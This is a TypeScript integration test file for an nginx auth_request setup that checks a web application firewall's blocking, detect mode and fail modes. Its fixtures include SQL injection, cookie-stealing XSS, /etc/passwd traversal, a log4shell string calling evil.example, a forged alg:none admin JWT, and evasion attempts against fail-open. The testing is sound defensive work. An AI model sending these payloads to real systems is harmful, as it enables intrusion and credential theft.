/**
 * Inline blocking through nginx's auth_request, end to end: real nginx runs the documented snippet
 * (assets/deploy/nginx/auth-request.conf, only ports, the key and the fail mode filled in) in front of a
 * tiny upstream, asking a real `moat serve`. Also the other documented configs (passive log format,
 * deny-list include) on real nginx, and the endpoint's own error paths in process.
 */
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { Elysia } from "elysia";
import { createApi } from "../../src/api/app.ts";
import { authRequestRoutes } from "../../src/api/routes/auth-request.ts";
import { makeApiServices } from "../helpers/api.ts";
import { runCli } from "../helpers/cli.ts";
import { NGINX_BIN, deployConfig, freePort, sendRaw, startAuthRequestNginx, startNginx, waitForLines, type NginxInstance } from "../helpers/nginx.ts";
import { startServe, waitFor, waitForListening, type ServeProcess } from "../helpers/serve.ts";
import { openReadonly } from "../helpers/db.ts";
import { tempDir } from "../helpers/tmp.ts";

const BENIGN = [
  { target: "/", ua: "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0" },
  { target: "/products?id=42&color=red", ua: "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 Safari/605.1.15" },
  { target: "/search?q=red+running+shoes&page=2", ua: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/126.0 Safari/537.36" },
];
/** One attack in each place auth_request lets Moat see: the query (three kinds) and a header. */
const ATTACKS = [
  { name: "sqli in the query", target: "/items?id=1%27%20UNION%20SELECT%20password%20FROM%20users--", ua: "Mozilla/5.0", type: "sqli" },
  { name: "xss in the query", target: "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", ua: "Mozilla/5.0", type: "xss" },
  { name: "traversal in the query", target: "/download?file=../../../../etc/passwd", ua: "Mozilla/5.0", type: "traversal" },
  { name: "log4shell in User-Agent", target: "/products", ua: "${jndi:ldap://evil.example/a}", type: "log4shell" },
];

/** Sends a request through nginx; `extra` are more header lines. Returns the status and the body. */
async function get(port: number, target: string, ua: string, extra = ""): Promise<{ status: number; body: string }> {
  const raw = await sendRaw(port, `GET ${target} HTTP/1.1\r\nHost: shop.test\r\nUser-Agent: ${ua}\r\nAccept: text/html\r\n${extra}Connection: close\r\n\r\n`);
  const status = Number(/^HTTP\/1\.1 (\d{3})/.exec(raw)?.[1] ?? 0);
  return { status, body: raw.slice(raw.indexOf("\r\n\r\n") + 4) };
}

if (!NGINX_BIN) console.warn("auth-request.test.ts: the nginx tests are skipped: nginx is not installed (Debian package nginx; .ci/dev-setup installs it)");

interface StoredThreat {
  endpoint: string;
  type: string;
  blocked: number;
  request: string;
}

describe("GET /check/auth-request without the snippet's headers", () => {
  test("missing or malformed X-Original-* headers are a 400 that says what the snippet sets", async () => {
    const app = new Elysia().use(authRequestRoutes(await makeApiServices()));
    const call = async (headers: Record<string, string>) => {
      const res = await app.handle(new Request("http://localhost/check/auth-request", { headers }));
      return { status: res.status, body: (await res.json()) as { success: boolean; message: string } };
    };
    const noMethod = await call({ "x-original-uri": "/x" });
    expect(noMethod.status).toBe(400);
    expect(noMethod.body.success).toBe(false);
    expect(noMethod.body.message).toContain("proxy_set_header X-Original-Method $request_method");
    const noUri = await call({ "x-original-method": "GET" });
    expect(noUri.status).toBe(400);
    expect(noUri.body.message).toContain("proxy_set_header X-Original-URI $request_uri");
    expect((await call({ "x-original-method": "GET /", "x-original-uri": "/x" })).body.message).toContain("HTTP method token");
  });

  test("whatever nginx accepted is judged, never refused: odd methods, and a target that is only a query", async () => {
    const s = await makeApiServices({ MOAT_DETECT_MODE: "block" });
    const app = new Elysia().use(authRequestRoutes(s));
    const status = async (headers: Record<string, string>) => (await app.handle(new Request("http://localhost/check/auth-request", { headers }))).status;
    expect(await status({ "x-original-method": "_" + "A".repeat(60), "x-original-uri": "/" })).toBe(204);
    // `GET http://shop.test?q=...` gives $request_uri "?q=...": nginx serves /, and Moat judges /?q=...
    expect(await status({ "x-original-method": "GET", "x-original-uri": "?q=%3Cscript%3Ealert(1)%3C/script%3E" })).toBe(403);
    // The client's Authorization, renamed by the snippet, is judged as the client's own header.
    const forged = `${Buffer.from('{"alg":"none"}').toString("base64url")}.${Buffer.from('{"sub":"admin"}').toString("base64url")}.`;
    expect(await status({ "x-original-method": "GET", "x-original-uri": "/account", "x-original-authorization": `Bearer ${forged}` })).toBe(403);
    s.writeBehind.flush();
    expect(s.ctx.store.sqlite!.query("select method, path, query from traffic order by id").all()).toEqual([
      { method: "_" + "A".repeat(60), path: "/", query: "" },
      { method: "GET", path: "/", query: "q=%3Cscript%3Ealert(1)%3C/script%3E" },
      { method: "GET", path: "/account", query: "" },
    ]);
  });

  test("it shares the inline checks' per-key rate limit (429, which nginx treats as its fail mode)", async () => {
    const app = createApi(await makeApiServices({ MOAT_SERVER_CHECK_RATE_LIMIT: "1" }));
    const headers = { "x-original-method": "GET", "x-original-uri": "/products?id=42" };
    const statuses: number[] = [];
    for (let i = 0; i < 2; i++) statuses.push((await app.handle(new Request("http://localhost/check/auth-request", { headers }))).status);
    expect(statuses).toEqual([204, 429]);
  });

  test("it is in the OpenAPI document with its headers", async () => {
    const app = createApi(await makeApiServices());
    const spec = (await (await app.handle(new Request("http://localhost/openapi.json"))).json()) as {
      paths: Record<string, Record<string, { parameters?: { name: string; in: string; required?: boolean }[]; responses?: Record<string, unknown> }>>;
    };
    const op = spec.paths["/check/auth-request"]?.get;
    expect(op).toBeDefined();
    const headers = (op!.parameters ?? []).filter((p) => p.in === "header").map((p) => [p.name, p.required ?? false]);
    expect(headers).toEqual(expect.arrayContaining([["x-original-method", true], ["x-original-uri", true], ["x-original-remote-addr", false], ["x-original-host", false]]));
    expect(Object.keys(op!.responses ?? {})).toEqual(expect.arrayContaining(["204", "403", "400"]));
  });
});

describe.skipIf(!NGINX_BIN)("nginx auth_request → moat serve (real nginx, the documented snippet)", () => {
  let moat: ServeProcess;
  let moatBase: string;
  /** nginx's key, made as the README says: check scope, no rate limit. */
  let key: string;
  /** The operator's, for the settings. */
  let adminKey: string;
  let db: string;
  let failOpen: NginxInstance;
  let failClosed: NginxInstance;

  function query<T>(sql: string): T[] {
    const sqlite = openReadonly(db);
    try {
      return sqlite.query(sql).all() as T[];
    } finally {
      sqlite.close();
    }
  }

  /** Threats stored so far, oldest first (inline checks are written within milliseconds). */
  const threats = () => query<StoredThreat>("select endpoint, attack_type as type, blocked, request from threats order by id");

  async function waitForThreats(n: number): Promise<StoredThreat[]> {
    await waitFor(`${n} stored threats`, () => threats().length >= n);
    return threats();
  }

  async function setMode(mode: "detect" | "block"): Promise<void> {
    const res = await fetch(`${moatBase}/api/waf/config`, { method: "PUT", headers: { "content-type": "application/json", "x-api-key": adminKey }, body: JSON.stringify({ mode }) });
    expect(res.status).toBe(200);
  }

  beforeAll(async () => {
    const dir = tempDir("moat-auth-request-");
    db = join(dir, "moat.db");
    // Moat requires a key (as when it listens beyond loopback): the snippet carries it.
    const created = runCli(["apikey", "create", "nginx", "--scope", "check", "--rate-limit", "0", "--db", db, "-c", "/dev/null"]);
    expect(created.code).toBe(0);
    key = created.stdout.trim();
    const admin = runCli(["apikey", "create", "operator", "--db", db, "-c", "/dev/null"]);
    expect(admin.code).toBe(0);
    adminKey = admin.stdout.trim();
    const moatPort = await freePort();
    moat = startServe(["--port", String(moatPort), "--db", db], { MOAT_STORAGE_DATA_DIR: dir, MOAT_SECURITY_NGINX_CONF: "", MOAT_DETECT_MODE: "block", MOAT_SERVER_REQUIRE_API_KEY: "always" });
    moatBase = await waitForListening(moat);
    failOpen = await startAuthRequestNginx({ moatPort, apiKey: key, failMode: "open", verdictLog: true });
    failClosed = await startAuthRequestNginx({ moatPort, apiKey: key, failMode: "closed" });
  }, 90_000);

  afterAll(async () => {
    moat?.proc.kill("SIGTERM");
    await moat?.proc.exited;
    await failOpen?.stop();
    await failClosed?.stop();
  });

  test("benign requests reach the upstream (200) and are recorded as clean traffic", async () => {
    for (const nginx of [failOpen, failClosed]) {
      for (const { target, ua } of BENIGN) {
        const res = await get(nginx.port, target, ua);
        expect({ target, status: res.status, body: res.body }).toEqual({ target, status: 200, body: "app ok\n" });
      }
    }
    const lines = await waitForLines(failOpen.path("logs/verdicts.log"), BENIGN.length);
    for (const line of lines) expect(line).toMatch(/^200 \S+ clean 0\.\d{6}\b/);
    const judged = 2 * BENIGN.length;
    await waitFor("the benign requests stored", () => query<{ n: number }>("select count(*) as n from traffic where source = 'inline' and is_anomaly = 0")[0]!.n === judged);
    expect(threats()).toHaveLength(0);
  });

  test("block mode: attacks get 403 and are stored as blocked threats; the API key never reaches the store", async () => {
    const before = threats().length;
    for (const a of ATTACKS) {
      const res = await get(failOpen.port, a.target, a.ua);
      expect({ attack: a.name, status: res.status }).toEqual({ attack: a.name, status: 403 });
    }
    const stored = (await waitForThreats(before + ATTACKS.length)).slice(before);
    expect(stored.map((t) => [t.type, t.blocked])).toEqual(ATTACKS.map((a) => [a.type, 1]));
    expect(stored.map((t) => t.endpoint)).toEqual(["/items", "/search", "/download", "/products"]);
    for (const t of stored) {
      expect(t.request).not.toContain(key);
      expect(t.request.toLowerCase()).not.toContain("x-original-");
    }
    // The client's User-Agent and Host are judged as the client sent them.
    const headerAttack = JSON.parse(stored[3]!.request) as { userAgent: string; host: string; clientIp: string };
    expect(headerAttack).toMatchObject({ userAgent: "${jndi:ldap://evil.example/a}", host: "shop.test", clientIp: "127.0.0.1" });
    // nginx can log the verdict (auth_request_set from Moat's headers).
    const lines = await waitForLines(failOpen.path("logs/verdicts.log"), BENIGN.length + ATTACKS.length);
    expect(lines.slice(BENIGN.length).map((l) => l.split(" ")[0] + " " + l.split(" ")[2] + " " + l.split(" ")[4])).toEqual(ATTACKS.map((a) => `403 blocked ${a.type}`));
  });

  test("a client's own Authorization or X-API-Key cannot make Moat fail and so slip through fail-open", async () => {
    const sqli = ATTACKS[0]!;
    const before = threats().length;
    expect((await get(failOpen.port, sqli.target, sqli.ua, "Authorization: Bearer moat_not-a-key\r\n")).status).toBe(403);
    expect((await get(failOpen.port, sqli.target, sqli.ua, "X-API-Key: moat_not-a-key\r\n")).status).toBe(403);
    // and it cannot forge the original request either: the snippet's headers replace the client's
    expect((await get(failOpen.port, sqli.target, sqli.ua, "X-Original-URI: /harmless\r\n")).status).toBe(403);
    expect((await waitForThreats(before + 3)).slice(before).map((t) => [t.endpoint, t.type, t.blocked])).toEqual([["/items", "sqli", 1], ["/items", "sqli", 1], ["/items", "sqli", 1]]);
  });

  test("the client's Authorization is judged as the client sent it: a forged token is blocked and stored redacted, a signed one passes", async () => {
    const part = (o: unknown) => Buffer.from(JSON.stringify(o)).toString("base64url");
    const forged = `${part({ alg: "none", typ: "JWT" })}.${part({ sub: "admin", role: "admin" })}.`;
    const signed = `${part({ alg: "HS256", typ: "JWT" })}.${part({ sub: "u1" })}.${"s1gnatureXy".repeat(4)}`;
    const before = threats().length;
    expect((await get(failOpen.port, "/account", "Mozilla/5.0", `Authorization: Bearer ${signed}\r\n`)).status).toBe(200);
    expect((await get(failOpen.port, "/account", "Mozilla/5.0", `Authorization: Bearer ${forged}\r\n`)).status).toBe(403);
    const stored = (await waitForThreats(before + 1)).slice(before);
    expect(stored.map((t) => [t.endpoint, t.type, t.blocked])).toEqual([["/account", "auth-bypass", 1]]);
    expect(stored[0]!.request).toContain("authorization");
    expect(stored[0]!.request).not.toContain(forged.split(".")[1]!);
    expect(stored[0]!.request.toLowerCase()).not.toContain("x-original-");
    // A Kerberos ticket is not passed on: with a large cookie it would push the subrequest past the
    // 16 KiB of headers Moat reads, a 500 in both fail modes.
    const big = `Authorization: Negotiate ${"YIIG".repeat(1800)}\r\nCookie: c=${"z".repeat(7000)}\r\n`;
    expect((await get(failClosed.port, "/account", "Mozilla/5.0", big)).status).toBe(200);
  });

  test("requests shaped to make Moat fail do not slip through fail-open", async () => {
    const status = async (raw: string) => Number(/^HTTP\/1\.1 (\d{3})/.exec(await sendRaw(failOpen.port, raw))?.[1]);
    const end = "Host: shop.test\r\nUser-Agent: Mozilla/5.0\r\nConnection: close\r\n\r\n";
    const before = threats().length;
    // an absolute-form target without a path: $request_uri is only the query
    expect(await status(`GET http://shop.test?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1\r\n${end}`)).toBe(403);
    // a method nginx accepts but no application knows
    expect(await status(`_${"X".repeat(60)} /items?id=1%27%20UNION%20SELECT%20password%20FROM%20users-- HTTP/1.1\r\n${end}`)).toBe(403);
    // raw bytes beyond ASCII in the target and in a header
    expect(await status(`GET /search?q=\xff\xfe%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1\r\nX-Note: caf\xe9\r\n${end}`)).toBe(403);
    expect((await waitForThreats(before + 3)).slice(before).map((t) => [t.endpoint, t.type, t.blocked])).toEqual([["/", "xss", 1], ["/items", "sqli", 1], ["/search", "xss", 1]]);
    // headers nginx accepts (8 KB a line) but beyond what Moat reads (16 KiB in all): Moat answers 431,
    // which neither fail mode covers, so nginx answers 500 rather than passing the request on unjudged
    const padding = Array.from({ length: 3 }, (_, i) => `X-Pad-${i}: ${"a".repeat(7000)}\r\n`).join("");
    expect(await status(`GET /items?id=1%27%20UNION%20SELECT%20password%20FROM%20users-- HTTP/1.1\r\n${padding}${end}`)).toBe(500);
  });

  test("a key over its rate limit hands the request to the fail mode: fail-open passes it unjudged and unrecorded, fail-closed answers 500", async () => {
    // A check key allowed one check a second, unlike the README's nginx key (--rate-limit 0).
    const limited = runCli(["apikey", "create", "nginx-limited", "--scope", "check", "--rate-limit", "1", "--db", db, "-c", "/dev/null"]);
    expect(limited.code).toBe(0);
    const open = await startAuthRequestNginx({ moatPort: Number(new URL(moatBase).port), apiKey: limited.stdout.trim(), failMode: "open" });
    const closed = await startAuthRequestNginx({ moatPort: Number(new URL(moatBase).port), apiKey: limited.stdout.trim(), failMode: "closed" });
    try {
      const sqli = ATTACKS[0]!;
      const before = threats().length;
      // A burst of 6 at once: a second's worth (one) is judged and blocked, the rest are over the limit.
      const burst = async (nginx: NginxInstance) => (await Promise.all(Array.from({ length: 6 }, () => get(nginx.port, sqli.target, sqli.ua)))).map((r) => r.status);
      const openStatuses = await burst(open);
      expect(openStatuses).toContain(200);
      expect(openStatuses.every((st) => st === 200 || st === 403)).toBe(true);
      const closedStatuses = await burst(closed);
      expect(closedStatuses).toContain(500);
      expect(closedStatuses.every((st) => st === 500 || st === 403)).toBe(true);
      // Only the judged ones are stored: what the limit let through left no trace.
      const judged = [...openStatuses, ...closedStatuses].filter((st) => st === 403).length;
      await waitFor(`${judged} stored threats`, () => threats().length === before + judged);
    } finally {
      await open.stop();
      await closed.stop();
    }
  });

  test("detect mode: attacks reach the upstream (200) and are still stored, as not blocked", async () => {
    await setMode("detect");
    const before = threats().length;
    for (const a of ATTACKS) {
      const res = await get(failClosed.port, a.target, a.ua);
      expect({ attack: a.name, status: res.status, body: res.body }).toEqual({ attack: a.name, status: 200, body: "app ok\n" });
    }
    const stored = (await waitForThreats(before + ATTACKS.length)).slice(before);
    expect(stored.map((t) => [t.type, t.blocked])).toEqual(ATTACKS.map((a) => [a.type, 0]));
    await setMode("block");
  });

  test("with Moat stopped, fail-open lets requests through (200) and fail-closed answers 500", async () => {
    moat.proc.kill("SIGTERM");
    await moat.proc.exited;
    const sqli = ATTACKS[0]!;
    const benign = BENIGN[1]!;
    expect((await get(failOpen.port, benign.target, benign.ua)).status).toBe(200);
    expect((await get(failOpen.port, sqli.target, sqli.ua)).status).toBe(200);
    expect((await get(failClosed.port, benign.target, benign.ua)).status).toBe(500);
    expect((await get(failClosed.port, sqli.target, sqli.ua)).status).toBe(500);
  });
});

describe.skipIf(!NGINX_BIN)("the other documented nginx configs on real nginx", () => {
  test("passive.conf writes a log that Moat reads with no format settings, $request_time included", async () => {
    const dir = tempDir("moat-passive-");
    const log = join(dir, "moat-access.log");
    const http = deployConfig("passive.conf", { "/var/log/nginx/moat-access.log": log });
    const nginx = await startNginx(`${http}\n  server {\n    listen 127.0.0.1:{{PORT}};\n    location / { return 200 "ok\\n"; }\n  }`);
    try {
      const requests = [...BENIGN, ATTACKS[0]!, ATTACKS[3]!];
      for (const r of requests) expect((await get(nginx.port, r.target, r.ua)).status).toBe(200);
      expect(await waitForLines(log, requests.length)).toHaveLength(requests.length);
    } finally {
      await nginx.stop();
    }
    const scan = runCli(["scan", log, "--ndjson"]);
    expect(scan.code).toBe(0);
    const judged = scan.stdout.trim().split("\n").map((l) => JSON.parse(l) as { method: string; path: string; query: string; userAgent: string; host: string; status: number; requestTime: number; isAnomaly: boolean; attackType?: string });
    expect(judged.map((r) => [r.method, r.path + (r.query ? `?${r.query}` : ""), r.status, r.host])).toEqual([...BENIGN, ATTACKS[0]!, ATTACKS[3]!].map((r) => ["GET", r.target, 200, "shop.test"]));
    for (const r of judged) expect(typeof r.requestTime).toBe("number");
    expect(judged.map((r) => r.isAnomaly)).toEqual([false, false, false, true, true]);
    expect(judged[4]!.userAgent).toBe(ATTACKS[3]!.ua);
  });

  test("deny-list.conf: an address in the included file gets 403, and is let in again once removed (after a reload)", async () => {
    const dir = tempDir("moat-deny-");
    const denyFile = join(dir, "deny.conf");
    writeFileSync(denyFile, "deny 127.0.0.1;\n");
    const appPort = await freePort();
    const http = deployConfig("deny-list.conf", {
      "include /var/lib/moat/deny.conf;": `include ${denyFile};`,
      "listen 80;": "listen 127.0.0.1:{{PORT}};",
      "proxy_pass http://127.0.0.1:3000;": `proxy_pass http://127.0.0.1:${appPort};`,
    });
    const nginx = await startNginx(`${http}\n  server {\n    listen 127.0.0.1:${appPort};\n    location / { return 200 "app ok\\n"; }\n  }`);
    try {
      expect((await get(nginx.port, "/", "Mozilla/5.0")).status).toBe(403);
      writeFileSync(denyFile, "");
      await nginx.reload();
      expect(await get(nginx.port, "/", "Mozilla/5.0")).toEqual({ status: 200, body: "app ok\n" });
    } finally {
      await nginx.stop();
    }
  });
});
